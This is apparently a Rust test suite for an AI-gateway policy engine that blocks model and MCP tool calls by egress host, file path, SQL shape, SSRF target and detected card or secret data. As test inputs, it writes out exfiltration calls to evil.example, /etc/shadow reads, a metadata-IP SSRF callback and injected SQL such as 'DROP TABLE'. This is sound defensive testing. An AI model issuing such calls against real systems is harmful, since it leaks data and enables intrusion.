//! Rules of a policy that look into calls and bodies: what is asked about leaves only once it was.

use estoppel_kit::http::{Answer, HttpError, Request};
use estoppel_stub::{Body, Dialect, ModelReply, Reply, Rule, Script, ToolCall};
use serde_json::{Value, json};

use crate::support::{Setup, World};

const EGRESS: &str = r#"version: 1
name: egress
defaults: { verdict: allow }
rules:
- id: known-hosts
  when: { tool: fetch, destination_not: api.example.com }
  verdict: block
  reason: EGRESS_DENIED
  message: this policy does not lead there
  severity: high
  threat: ["owasp_agentic:2026/ASI02"]
- id: no-root
  when: { tool: [run, read], arguments: [{ at: /path, matches: /etc/* }] }
  verdict: block
  reason: TOOL_DENIED
- id: no-large-orders
  when: { body: [{ at: /order/amount, greater_than: 100 }] }
  verdict: block
  reason: AMOUNT_MAX
- id: no-inside
  when: { operation: json, destination: [ip:private, ip:loopback, ip:link_local] }
  verdict: block
  reason: SSRF
"#;

const GOOD: &str = r#"{"url": "https://api.example.com/v1"}"#;
const EVIL: &str = r#"{"url": "https://evil.example/?q=1"}"#;
const TORN: &str = r#"{"url": "https://api.example.com\\@evil.example/"}"#;

const SURFACES: [(&str, Dialect, bool); 8] = [
    ("/v1/chat/completions", Dialect::ChatCompletions, false),
    ("/v1/chat/completions", Dialect::ChatCompletions, true),
    ("/v1/responses", Dialect::Responses, false),
    ("/v1/responses", Dialect::Responses, true),
    ("/v1/messages", Dialect::Messages, false),
    ("/v1/messages", Dialect::Messages, true),
    ("/v1beta/models/m:generateContent", Dialect::Gemini, false),
    ("/v1beta/models/m:streamGenerateContent?alt=sse", Dialect::Gemini, true),
];

fn world(policy: &str, script: Script) -> World {
    let routes = "[[route]]\nname = \"plain\"\npath = \"/plain\"\nupstream = \"stub\"\ndialect = \"json\"\n";
    World::with(script, &Setup { policy: policy.into(), routes: routes.into(), ..Setup::default() })
}

fn calling(dialect: Dialect, calls: &[(&str, &str)]) -> Script {
    let call =
        |(name, arguments): &(&str, &str)| ToolCall { name: (*name).into(), arguments: (*arguments).into() };
    let calls = Some(calls.iter().map(call).collect());
    Script::always(Reply::model(ModelReply { calls, ..ModelReply::new(dialect) }))
}

/// What a client gets, also of an answer that is cut.
fn given(world: &World, request: &Request) -> Answer {
    match estoppel_kit::http::send(world.gateway, request) {
        Ok(answer) => answer,
        Err(HttpError::Incomplete { answer }) => *answer,
        Err(error) => panic!("{error}"),
    }
}

fn ask(path: &str, stream: bool) -> Request {
    let body = json!({ "model": "m", "stream": stream, "max_tokens": 9, "messages": [], "input": "x", "contents": [] });
    let mut body = body;
    if path.contains("models/") {
        body = json!({ "contents": [] });
    }
    post(path, &body.to_string())
}

fn post(path: &str, body: &str) -> Request {
    Request::new("POST", path)
        .header("content-type", "application/json")
        .header("estoppel-run", "rules")
        .body(body.as_bytes())
}

#[test]
fn a_call_of_a_models_leaves_once_the_rules_know_where_it_leads() {
    for (path, dialect, stream) in SURFACES {
        let name = format!("{dialect:?} {stream}");
        let send = |arguments: &str| {
            let world = world(EGRESS, calling(dialect, &[("search", "{}"), ("fetch", arguments)]));
            let answer = given(&world, &ask(path, stream));
            (answer.status(), answer.text(), world.receipts("rules").remove(0))
        };
        let (status, text, receipt) = send(GOOD);
        assert_eq!((status, &receipt["verdict"]["action"]), (200, &json!("allow")), "{name}: {receipt}");
        assert!(text.contains("fetch") && !text.contains("\"error\":{"), "{name}: {text}");
        assert_eq!(receipt["evaluated"]["response"]["state"], "recognized", "{name}");
        for (arguments, rule, reason) in
            [(EVIL, json!("known-hosts"), "EGRESS_DENIED"), (TORN, Value::Null, "NOT_EVALUATED")]
        {
            let (status, text, receipt) = send(arguments);
            assert_eq!(status, if stream { 200 } else { 403 }, "{name}: {text}");
            assert!(!text.contains("evil.example"), "{name}: {text}");
            assert!(text.contains(reason), "{name}: {text}");
            assert_eq!(receipt["verdict"]["action"], "block", "{name}");
            assert_eq!(receipt["verdict"]["reason"], reason, "{name}: {receipt}");
            assert_eq!(receipt["policy"]["rule"], rule, "{name}: {receipt}");
        }
        let (_, _, receipt) = send(EVIL);
        assert_eq!(receipt["threat"]["severity"], "high", "{name}");
        assert_eq!(receipt["threat"]["ids"], json!(["owasp_agentic:2026/ASI02"]), "{name}");
    }
}

#[test]
fn an_answer_that_a_rule_blocks_says_the_rules_own_reason_and_text_whole_or_streamed() {
    let policy = "version: 1\nname: own\ndefaults: { verdict: allow }\nrules:\n\
                  - { id: no-transfer, when: { tool: transfer }, verdict: block, reason: TRANSFER_LIMIT, message: ask the treasury }\n";
    for (path, dialect, stream) in SURFACES {
        let name = format!("{dialect:?} {stream}");
        let world = world(policy, calling(dialect, &[("transfer", "{}")]));
        let answer = given(&world, &ask(path, stream));
        let (text, receipt) = (answer.text(), world.receipts("rules").remove(0));
        assert_eq!(answer.status(), if stream { 200 } else { 403 }, "{name}: {text}");
        assert!(text.contains("TRANSFER_LIMIT") && text.contains("ask the treasury"), "{name}: {text}");
        assert!(!text.contains("POLICY_BLOCK"), "{name}: {text}");
        assert_eq!(receipt["verdict"]["reason"], "TRANSFER_LIMIT", "{name}: {receipt}");
        assert_eq!(receipt["policy"]["rule"], "no-transfer", "{name}: {receipt}");
    }
}

#[test]
fn rules_are_asked_about_what_leaves_after_a_repair() {
    let policy =
        EGRESS.replace("defaults: { verdict: allow }", "defaults: { verdict: allow, judge: { repair: r1 } }");
    let send = |arguments: &str| {
        let world = world(&policy, calling(Dialect::ChatCompletions, &[("fetch", arguments)]));
        let _ = given(&world, &ask("/v1/chat/completions", true));
        world.receipts("rules").remove(0)["verdict"].clone()
    };
    assert_eq!(send(r#"{"url": "https://api.example.com/v1",}"#)["action"], "repair");
    assert_eq!(send(r#"{"url": "https://evil.example/",}"#)["reason"], "EGRESS_DENIED");
}

const SQL: &str = r#"version: 1
name: sql
defaults: { verdict: allow }
rules:
- id: guarded
  when:
    tool: run_sql
    arguments:
    - at: /query
      sql_not: { statements: [select, update, delete], require_selector: true, rows_max: 100, tables_not: users }
  verdict: block
  reason: SQL_DENIED
"#;

/// What is allowed, what a rule blocks, and what nobody can read.
const QUERIES: [(&str, Value, &str); 6] = [
    ("UPDATE orders SET paid = true WHERE id = 7", Value::Null, ""),
    ("UPDATE orders SET paid = true", Value::Bool(true), "SQL_DENIED"),
    ("DELETE FROM orders WHERE 1=1 -- mass", Value::Bool(true), "SQL_DENIED"),
    ("SELECT name FROM \\\"users\\\" LIMIT 5", Value::Bool(true), "SQL_DENIED"),
    ("SELECT 1 LIMIT 1; DROP TABLE orders", Value::Bool(true), "SQL_DENIED"),
    ("DO $$ BEGIN DELETE FROM orders; END $$", Value::Null, "NOT_EVALUATED"),
];

#[test]
fn sql_keeps_to_its_terms_whether_a_client_or_a_model_calls_the_tool() {
    let result = Script::always(Reply::json(r#"{"jsonrpc":"2.0","id":1,"result":{"content":[]}}"#));
    let server = world(SQL, result);
    for (query, by_rule, reason) in QUERIES {
        let arguments = format!(r#"{{"query":"{query}"}}"#);
        let call = format!(
            r#"{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{{"name":"run_sql","arguments":{arguments}}}}}"#
        );
        let answer = server.send(&post("/mcp", &call));
        assert_eq!(answer.status(), if reason.is_empty() { 200 } else { 403 }, "{query}: {}", answer.text());
        assert!(answer.text().contains(reason), "{query}: {}", answer.text());

        let (path, dialect, stream) = SURFACES[4];
        let model = world(SQL, calling(dialect, &[("run_sql", &arguments)]));
        let text = given(&model, &ask(path, stream)).text();
        assert_eq!(text.contains("orders") || text.contains("users"), reason.is_empty(), "{query}: {text}");
        let receipt = model.receipts("rules").remove(0);
        assert_eq!(receipt["verdict"]["reason"].as_str().unwrap_or_default(), reason, "{query}: {receipt}");
        let rule = if by_rule == Value::Bool(true) { json!("guarded") } else { Value::Null };
        assert_eq!(receipt["policy"]["rule"], rule, "{query}: {receipt}");
    }
    assert_eq!(server.upstream.hits().total(), 1);
}

#[test]
fn a_call_of_a_servers_tool_is_refused_before_the_server_sees_it() {
    let result = r#"{"jsonrpc":"2.0","id":1,"result":{"content":[]}}"#;
    let reply = Reply::new(Body::Text(result.into())).header("content-type", "application/json");
    let world = world(EGRESS, Script::always(reply));
    let call = |name: &str, arguments: &str| {
        format!(
            r#"{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{{"name":"{name}","arguments":{arguments}}}}}"#
        )
    };
    let send = |body: &str| world.send(&post("/mcp", body));
    assert_eq!(send(&call("fetch", GOOD)).status(), 200);
    let refused = send(&call("fetch", EVIL));
    assert_eq!(refused.status(), 403);
    let error: Value = serde_json::from_slice(&refused.body).unwrap();
    assert_eq!(error["error"]["data"]["code"], "EGRESS_DENIED");
    assert_eq!(error["id"], 1);
    assert_eq!(send(&call("read", r#"{"path":"/etc/shadow"}"#)).status(), 403);
    assert_eq!(send(&call("read", r#"{"path":"/srv/x"}"#)).status(), 200);
    // A list is nothing that a pattern can be asked about, and a member that comes twice has two readings.
    assert_eq!(send(&call("read", r#"{"path":["/etc/shadow"]}"#)).status(), 403);
    assert_eq!(send(&call("read", r#"{"path":"/srv/x","path":"/etc/shadow"}"#)).status(), 403);
    let batch = format!("[{},{}]", call("read", r#"{"path":"/srv/x"}"#), call("fetch", EVIL));
    assert_eq!(send(&batch).status(), 403);
    assert_eq!(world.upstream.hits().total(), 2);
    let reasons: Vec<Value> =
        world.receipts("rules").iter().map(|receipt| receipt["verdict"]["reason"].clone()).collect();
    let expected =
        [Value::Null, json!("EGRESS_DENIED"), json!("TOOL_DENIED"), Value::Null, json!("NOT_EVALUATED")];
    assert_eq!(reasons[..5], expected);
}

#[test]
fn a_body_of_plain_json_is_read_whole_where_a_rule_looks_into_it() {
    let world = world(EGRESS, Script::always(Reply::default()).on(Rule::any("/plain", Reply::default())));
    let status = |body: &str| world.send(&post("/plain/orders", body)).status();
    assert_eq!(status(r#"{"order":{"amount":100}}"#), 200);
    assert_eq!(status(r#"{"order":{"amount":101}}"#), 403);
    assert_eq!(status(r#"{"order":{"amount":"101"}}"#), 403);
    assert_eq!(status(r#"{"order":{"amount":1,"amount":101}}"#), 403);
    assert_eq!(status(r#"{"callback":"http://169.254.169.254/latest"}"#), 403);
    assert_eq!(status(r#"{"callback":"https://example.com/"}"#), 200);
    assert_eq!(status("{"), 403);
    let coded = post("/plain/orders", r#"{"order":{"amount":1}}"#).header("content-encoding", "gzip");
    assert_eq!(world.send(&coded).status(), 403);
}

#[test]
fn rules_on_calls_are_refused_where_calls_leave_before_they_are_judged() {
    for release in ["observe", "stream_and_cut"] {
        let policy = EGRESS.replace(
            "defaults: { verdict: allow }",
            &format!("defaults: {{ verdict: allow, judge: {{ release: {release} }} }}"),
        );
        let scratch = estoppel_kit::Scratch::new("refused");
        let file = scratch.join("policy.yaml");
        std::fs::write(&file, &policy).unwrap();
        let (code, said) = crate::support::cli(&["policy", "lint", crate::support::path(&file)]);
        assert_eq!((code, &said["error"]["code"]), (6, &json!("POLICY_UNENFORCEABLE")), "{said}");
    }
}

const EXPORT: &str = r#"version: 1
name: export
defaults: { verdict: allow }
detectors:
  pii: { mode: shadow }
rules:
- id: no-export
  when: { tool: "*", data: pii.*, destination_not: crm.example.com }
  verdict: block
  reason: EGRESS_DENIED
"#;
/// Made for tests; no bank knows it.
const CARD: &str = "4111 1111 1111 1111";

fn posting(host: &str, text: &str) -> String {
    json!({ "url": format!("https://{host}/in"), "text": text }).to_string()
}

fn mcp_reply() -> Script {
    let result = r#"{"jsonrpc":"2.0","id":1,"result":{"content":[]}}"#;
    Script::always(Reply::new(Body::Text(result.into())).header("content-type", "application/json"))
}

fn mcp_call(arguments: &str) -> String {
    format!(
        r#"{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{{"name":"send","arguments":{arguments}}}}}"#
    )
}

#[test]
fn personal_data_does_not_leave_for_a_host_that_is_not_listed_in_a_call_of_a_servers_tool() {
    let world = world(EXPORT, mcp_reply());
    let send = |host: &str, text: &str| world.send(&post("/mcp", &mcp_call(&posting(host, text))));
    assert_eq!(send("evil.example", "nothing in it").status(), 200);
    assert_eq!(send("crm.example.com", CARD).status(), 200);
    let passed = world.upstream.hits().total();
    let refused = send("evil.example", CARD);
    assert_eq!(refused.status(), 403);
    let error: Value = serde_json::from_slice(&refused.body).unwrap();
    assert_eq!(error["error"]["data"]["code"], "EGRESS_DENIED");
    assert_eq!(world.upstream.hits().total(), passed);
    let receipts = world.receipts("rules");
    let blocked = |receipt: &&Value| receipt["verdict"]["action"] == "block";
    let receipt = receipts.iter().find(blocked).unwrap();
    assert_eq!(receipt["policy"]["rule"], "no-export");
    assert_eq!(receipt["data_class"], json!(["pii.card"]));
    assert_eq!(receipt["destination"], "evil.example");
    assert_eq!(receipt["ext"]["findings"].as_array().unwrap().len(), 1, "looked at once: {receipt}");
    assert_eq!(receipts.iter().filter(blocked).count(), 1);
}

#[test]
fn personal_data_does_not_leave_for_a_host_that_is_not_listed_in_a_call_of_a_models() {
    for (path, dialect, stream) in SURFACES {
        let name = format!("{dialect:?} {stream}");
        let send = |host: &str, text: &str| {
            let world = world(EXPORT, calling(dialect, &[("send", &posting(host, text))]));
            let answer = given(&world, &ask(path, stream));
            (answer.status(), answer.text(), world.receipts("rules").remove(0))
        };
        for (host, text) in [("evil.example", "nothing in it"), ("crm.example.com", CARD)] {
            let (status, text, receipt) = send(host, text);
            assert_eq!((status, &receipt["verdict"]["action"]), (200, &json!("allow")), "{name}: {text}");
        }
        let (status, text, receipt) = send("evil.example", CARD);
        assert_eq!(status, if stream { 200 } else { 403 }, "{name}: {text}");
        assert!(!text.contains("4111"), "{name}: {text}");
        assert_eq!(receipt["verdict"]["reason"], "EGRESS_DENIED", "{name}: {receipt}");
        assert_eq!(receipt["policy"]["rule"], "no-export", "{name}");
        assert_eq!(receipt["data_class"], json!(["pii.card"]), "{name}: {receipt}");
        assert_eq!(receipt["destination"], "evil.example", "{name}: {receipt}");
    }
}

#[test]
fn what_no_detector_looks_for_is_not_evaluated_and_a_rule_comes_before_a_detector() {
    let send = |policy: &str, body: &str| {
        let world = world(policy, mcp_reply());
        let status = world.send(&post("/mcp", body)).status();
        (status, world.receipts("rules").remove(0)["verdict"]["reason"].clone())
    };
    let with_card = mcp_call(&posting("evil.example", CARD));
    let without = mcp_call(&posting("evil.example", "nothing in it"));
    for detectors in ["{ secrets: {} }", "{ pii: { surfaces: [answer] } }", "{ pii: { except: [pii.*] } }"] {
        let policy =
            EXPORT.replace("detectors:\n  pii: { mode: shadow }", &format!("detectors: {detectors}"));
        assert_ne!(policy, EXPORT);
        for body in [&with_card, &without] {
            assert_eq!(send(&policy, body), (403, json!("NOT_EVALUATED")), "{detectors}");
        }
    }
    let enforced = EXPORT.replace("mode: shadow", "mode: enforce");
    assert_eq!(send(&enforced, &with_card), (403, json!("EGRESS_DENIED")));
    let listed = mcp_call(&posting("crm.example.com", CARD));
    assert_eq!(send(&enforced, &listed), (403, json!("PII_FOUND")));
}

#[test]
fn a_class_of_data_in_a_body_is_a_fact_for_rules() {
    let policy = "version: 1
name: bodies
defaults: { verdict: allow }
detectors:
  secrets: { mode: shadow }
rules:
- { id: no-secrets, when: { data: secret.* }, verdict: block, reason: SECRET_LEAVES }
";
    let world = world(policy, Script::model());
    let body = |text: &str| json!({ "model": "m", "messages": [{ "role": "user", "content": text }] });
    let send = |path: &str, text: &str| world.send(&post(path, &body(text).to_string())).status();
    for path in ["/v1/chat/completions", "/plain/x"] {
        assert_eq!(send(path, "the key is AKIAIOSFODNN7EXAMPLE, keep it"), 403, "{path}");
    }
    assert_eq!(send("/v1/chat/completions", "there is no key"), 200);
    let receipt = &world.receipts("rules")[0];
    assert_eq!(receipt["verdict"]["reason"], "SECRET_LEAVES");
    assert_eq!(receipt["data_class"], json!(["secret.aws_key"]));
}

#[test]
fn each_message_of_a_batch_has_its_own_data() {
    let policy = EXPORT.replace("mode: shadow", "mode: enforce");
    let call = |host: &str, text: &str| mcp_call(&posting(host, text));
    let shadow = world(EXPORT, mcp_reply());
    let apart = format!("[{},{}]", call("evil.example", "nothing in it"), call("crm.example.com", CARD));
    let answer = shadow.send(&post("/mcp", &apart));
    assert!(!answer.text().contains("EGRESS_DENIED"), "{}", answer.text());
    let one = format!("[{},{}]", call("crm.example.com", "nothing in it"), call("evil.example", CARD));
    for policy in [EXPORT, &*policy] {
        let answer = world(policy, mcp_reply()).send(&post("/mcp", &one));
        assert!(answer.text().contains("EGRESS_DENIED"), "{}", answer.text());
    }
}
